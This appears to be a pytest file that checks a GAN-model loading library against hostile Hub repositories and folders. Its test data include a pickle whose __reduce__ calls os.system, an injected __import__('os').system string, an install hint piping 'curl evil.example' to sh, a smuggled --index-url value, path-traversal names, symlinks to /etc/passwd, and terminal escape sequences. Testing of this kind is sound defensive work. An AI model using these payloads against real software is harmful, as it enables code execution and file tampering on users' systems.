"""Models of strangers on the Hub and in folders: each trick gives one clear line, runs nothing, leaves the cache whole.

What is tried on a folder's files one by one is in ``test_checkpoint.py``; here are the ways in that a repository has,
and every command that opens a model.
"""

import json
import os
import pickle
import resource
import shutil
import struct

import pytest
import torch
from click.testing import CliRunner
from hub_models import files, saved
from safetensors.torch import load, save

import ganzoo
from ganzoo.cli import main
from ganzoo.errors import GanzooError
from ganzoo.folder.layout import largest
from ganzoo.folder.model import ModelFolder

REPO = "org/evil"
OWNED = "/tmp/ganzoo-owned"


class Evil:
    """A pickle that leaves a mark when it is read."""

    def __reduce__(self):
        return os.system, (f"touch {OWNED}",)


@pytest.fixture(autouse=True)
def nothing_is_run():
    """No trick leaves its mark."""
    yield
    assert not os.path.exists(OWNED)


def config(**fields):
    return {**files(), "config.json": files(**fields)["config.json"]}


def part(position, **fields):
    """The files with one part of the plan changed."""
    parts = json.loads(files()["config.json"])["parts"]
    parts[position].update(fields)
    return config(parts=parts)


def weights(edit):
    """The files with their tensors changed."""
    tensors = load(files()["model.safetensors"])
    edit(tensors)
    return {**files(), "model.safetensors": save(tensors)}


def header(edit):
    """The files with the header of their tensors changed, the bytes left as they are."""
    data = files()["model.safetensors"]
    (length,) = struct.unpack("<Q", data[:8])
    told = json.loads(data[8 : 8 + length])
    edit(told[min(name for name in told if name.endswith("weight"))], told)
    text = json.dumps(told).encode()
    return {**files(), "model.safetensors": struct.pack("<Q", len(text)) + text + data[8 + length :]}


def first(tensors):
    return min(name for name in tensors if name.endswith("weight"))


PICKLE = pickle.dumps(Evil())
TRICKS = {
    "a pickle called safetensors": ({**files(), "model.safetensors": PICKLE * 2000}, "not a safetensors file"),
    "a pickle and no safetensors": ({"config.json": files()["config.json"], "pytorch_model.bin": PICKLE},
                                    "has no model.safetensors"),
    "a pickle called config.json": ({**files(), "config.json": PICKLE}, "is not JSON"),
    "an unknown part": (part(-1, part="loss/os.system"), "os.system"),
    "a part of an unknown kind": (part(0, part="builtins/eval"), "cannot be built"),
    "code for an option": (part(0, options={"ch": "__import__('os').system('touch /tmp/ganzoo-owned')"}), "ch"),
    "10^12 channels": (part(0, options={"ch": 10**12}), "cannot be built|parameters, more than"),
    "10^12 pixels": (config(height=10**12), "height is"),
    "10^6 channels of images": (config(channels=10**6), "channels is"),
    "10^12 classes": (config(classes=10**12), "classes is"),
    "names for a billion classes": (config(classes=10**7, class_names=["a"] * 1000), "class_names are not"),
    "a long length in the header": (header(lambda w, h: w.update(data_offsets=[0, 1 << 60])), "as long as its shape"),
    "a huge shape in the header": (header(lambda w, h: w.update(shape=[1 << 40])), "its recipe says"),
    "overlapping tensors": (header(lambda w, h: w.update(data_offsets=[4, 4 + w["data_offsets"][1]
                                                                       - w["data_offsets"][0]])), "do not follow"),
    "another dtype in the header": (header(lambda w, h: w.update(dtype="I32")), "its recipe says F32"),
    "an endless header": ({**files(), "model.safetensors": struct.pack("<Q", 1 << 62) + bytes(90_000)},
                          "not a safetensors file"),
    "a missing tensor": (weights(lambda t: t.pop(first(t))), "lacks the tensor"),
    "a surplus tensor": (weights(lambda t: t.update({"../../x": torch.ones(1)})), "holds the tensor"),
    "a tensor that steers the terminal": (weights(lambda t: t.update({"\x1b]0;owned\x07": torch.ones(1)})), "x1b"),
    "doubles": (weights(lambda t: t.update({first(t): t[first(t)].double()})), "F64"),
    "NaN": (weights(lambda t: t[first(t)].fill_(float("nan"))), "NaN or infinite"),
    "infinity": (weights(lambda t: t[first(t)].fill_(float("inf"))), "NaN or infinite"),
    "a class name that steers the terminal": (config(class_names=["\x1b[2J"]), "class_names"),
    "a recipe that steers the terminal": (config(recipe="\x1b]0;owned\x07"), "cannot be built"),
    "an install hint that is a command": (config(plugins={"x; curl evil.example | sh": "1"}), "PEP 503"),
    "an install hint that is an option": (config(plugins={"--index-url": "1"}), "PEP 503"),
    "an install hint with a false version": (config(plugins={"x": "1' --index-url http://evil.example '"}), "PEP 440"),
    "a truncated file": ({**files(), "model.safetensors": files()["model.safetensors"][:-100]}, "is torn|has .* bytes"),
    "half a file": ({**files(), "model.safetensors": files()["model.safetensors"][:9000]}, "the weights of its recipe"),
    "weights that are far too large": ({**files(), "model.safetensors": bytes(20 << 20)}, "no model.safetensors has"),
    "a config of 2 MB": ({**files(), "config.json": b"{" + b" " * (2 << 20) + b"}"}, "no config.json has more than"),
    "a config without end": ({**files(), "config.json": b"[" * 100_000}, "is not JSON"),
    "no format": ({**files(), "config.json": b"{}"}, "has no 'format'"),
    "a format to come": (config(format=99, ganzoo="99.1"), r"pip install 'ganzoo-core>=99\.1'"),
}  # fmt: skip


@pytest.mark.parametrize("trick", TRICKS)
def test_a_hostile_repository_gives_one_clear_line_and_leaves_the_cache_usable(hub, trick):
    content, said = TRICKS[trick]
    repo = hub.repo(REPO, content)
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    with pytest.raises(GanzooError, match=said) as caught:
        ganzoo.load(REPO)
    text = str(caught.value)
    assert text.isprintable() and len(text) < 700 and "hf-cache" not in text
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 300_000  # kB: no memory was taken for it
    repo.commit(files())
    assert ganzoo.load(REPO).sample(1, seed=0).isfinite().all()


@pytest.mark.parametrize("trick", ["10^12 channels", "an unknown part", "a config of 2 MB", "half a file"])
def test_weights_that_cannot_be_used_are_not_downloaded(hub, trick):
    hub.repo(REPO, TRICKS[trick][0])
    with pytest.raises(GanzooError):
        ganzoo.load(REPO)
    assert not hub.calls("GET", "/cdn/")


@pytest.mark.parametrize("command", ["sample", "interpolate", "attention"])
@pytest.mark.parametrize("trick", ["an unknown part", "a tensor that steers the terminal", "NaN"])
def test_every_command_that_opens_a_model_refuses_alike(hub, tmp_path, monkeypatch, command, trick):
    monkeypatch.chdir(tmp_path)
    hub.repo(REPO, TRICKS[trick][0])
    result = CliRunner().invoke(main, [command, REPO])
    assert result.exit_code == 1
    (line,) = result.stderr.splitlines()
    assert line.startswith("ganzoo: error: ") and line.isprintable()
    assert not [path for path in tmp_path.iterdir() if path.name != "hf-cache"]


# --- names and links --------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "name",
    ["../../evil.txt", "/etc/cron.d/evil", "pictures/../../evil.png", "pictures/a/b/c.png", "examples/.hidden.png",
     "pictures/evil.pkl", "training/step-1/state.safetensors", "Model.safetensors", "pytorch_model.bin", "evil.py",
     "pictures\\..\\evil.png", "pictures/\x1b[31m.png", "config.json/x", ""],
)  # fmt: skip
def test_names_that_are_never_published_or_taken(name):
    assert largest(name) is None


def test_pull_takes_published_names_only_and_nothing_lands_outside(hub, tmp_path):
    hub.repo(REPO, {**files(), "README.md": b"# hi", "pictures/a.png": b"p", "../evil.txt": b"x", "evil.py": b"x",
                    "pictures/../../evil.png": b"x", "model.pkl": PICKLE})  # fmt: skip
    result = CliRunner().invoke(main, ["pull", REPO, str(tmp_path / "in" / "model")])
    assert result.exit_code == 0, result.output
    taken = {str(path.relative_to(tmp_path / "in")) for path in (tmp_path / "in").rglob("*") if path.is_file()}
    assert taken == {f"model/{name}" for name in ("config.json", "model.safetensors", "README.md", "pictures/a.png")}
    assert not list(tmp_path.rglob("evil*"))


@pytest.mark.parametrize(("name", "size"), [("README.md", 5 << 20), ("config.json", 2 << 20)])
def test_pull_refuses_what_is_too_large_before_it_is_downloaded(hub, tmp_path, name, size):
    hub.repo(REPO, {**files(), name: bytes(size)})
    result = CliRunner().invoke(main, ["pull", REPO, str(tmp_path / "model")])
    assert result.exit_code == 1 and f"{name} has {size:,} bytes, and no {name} has more" in result.stderr
    assert not (tmp_path / "model").exists() and not hub.calls("GET", "/resolve/")


def test_pull_that_breaks_off_leaves_no_folder(hub, tmp_path):
    hub.repo(REPO, files())
    hub.fail("GET", "/cdn/", "503", times=100)
    result = CliRunner().invoke(main, ["pull", REPO, str(tmp_path / "model")])
    assert result.exit_code == 1 and "the Hub answers 503" in result.stderr
    assert not (tmp_path / "model").exists() and not list(tmp_path.glob(".new-*"))
    hub.faults.clear()
    assert CliRunner().invoke(main, ["pull", REPO, str(tmp_path / "model")]).exit_code == 0
    ModelFolder(tmp_path / "model").load()


@pytest.mark.parametrize("name", ["config.json", "model.safetensors"])
@pytest.mark.parametrize("target", ["/dev/zero", "/etc/passwd", "../outside"])
def test_links_in_a_folder_lead_nowhere(tmp_path, name, target):
    folder = saved(tmp_path / "model")
    shutil.move(folder / name, tmp_path / "outside")
    (folder / name).symlink_to(target)
    with pytest.raises(GanzooError, match="is a link"):
        ganzoo.load(folder)


def test_pipes_in_a_folder_do_not_hang(tmp_path):
    folder = saved(tmp_path / "model")
    for name in ("config.json", "model.safetensors"):
        (folder / name).unlink()
        os.mkfifo(folder / name)
        with pytest.raises(GanzooError, match="not a regular file"):
            ganzoo.load(folder)
        (folder / name).unlink()
        (folder / name).write_bytes(files()[name])


def cache_of(folder, store):
    """A Hub cache in ``folder`` whose weights are a link into the store that its models share, as Xet makes them."""
    blobs, snapshot = folder / "models--org--x" / "blobs", folder / "models--org--x" / "snapshots" / ("0" * 40)
    blobs.mkdir(parents=True)
    snapshot.mkdir(parents=True)
    (blobs / "1").write_bytes(files()["config.json"])
    (snapshot / "config.json").symlink_to("../../blobs/1")
    store.parent.mkdir(parents=True)
    store.write_bytes(files()["model.safetensors"])
    (blobs / "2").symlink_to(os.path.relpath(store, blobs))
    (snapshot / "model.safetensors").symlink_to("../../blobs/2")
    return snapshot


def test_the_store_that_models_of_a_cache_share_may_be_linked_to(tmp_path):
    snapshot = cache_of(tmp_path / "hub", tmp_path / "hub" / "blobs" / "ab" / ("ab" * 32))
    assert ModelFolder(snapshot).load().sample(1, seed=0).isfinite().all()
    (tmp_path / "link").symlink_to(tmp_path / "hub")
    ModelFolder(tmp_path / "link" / snapshot.relative_to(tmp_path / "hub")).load()


@pytest.mark.parametrize("store", ["outside/ab/" + "ab" * 32, "hub/blobs/ab/secret", "hub/other/ab/" + "ab" * 32])
def test_other_links_out_of_a_cache_lead_nowhere(tmp_path, store):
    snapshot = cache_of(tmp_path / "hub", tmp_path / store)
    with pytest.raises(GanzooError, match="is a link"):
        ModelFolder(snapshot).load()


# --- what lies beside the model ---------------------------------------------------------------------------------


def test_a_card_of_a_gigabyte_costs_nothing(tmp_path):
    folder = saved(tmp_path / "model")
    (folder / "README.md").touch()
    os.truncate(folder / "README.md", 1 << 30)
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    assert ganzoo.load(folder).sample(1, seed=0).isfinite().all()
    result = CliRunner().invoke(main, ["push", str(folder), "me/x", "--dry-run", "--unscored", "--license", "mit"])
    assert result.exit_code == 1 and len(result.stderr) < 400
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 200_000


def test_pickles_and_code_beside_a_model_are_left_alone(tmp_path):
    folder = saved(tmp_path / "model")
    for name in ("pytorch_model.bin", "training.pt", "ganzoo_plugin.pkl"):
        (folder / name).write_bytes(PICKLE)
    (folder / "modeling.py").write_text(f"open({OWNED!r}, 'w')\n")
    (folder / "sitecustomize.py").write_text(f"open({OWNED!r}, 'w')\n")
    assert ganzoo.load(folder).sample(1, seed=0).isfinite().all()


def test_what_a_repository_says_of_itself_is_escaped(hub):
    hub.fail("GET", "/api/models", "503")
    evil = {"parts": json.loads(files()["config.json"])["parts"], "plugins": {"ganzoo-red": "1.0"}}
    evil["parts"][-1]["part"] = "loss/\x1b[31mred"
    hub.repo(REPO, files(**evil))
    hub.faults.clear()
    result = CliRunner().invoke(main, ["sample", REPO])
    assert result.exit_code == 1 and "\x1b" not in result.output
    assert "as claimed by the model, it needs: pip install 'ganzoo-red==1.0'" in result.stderr
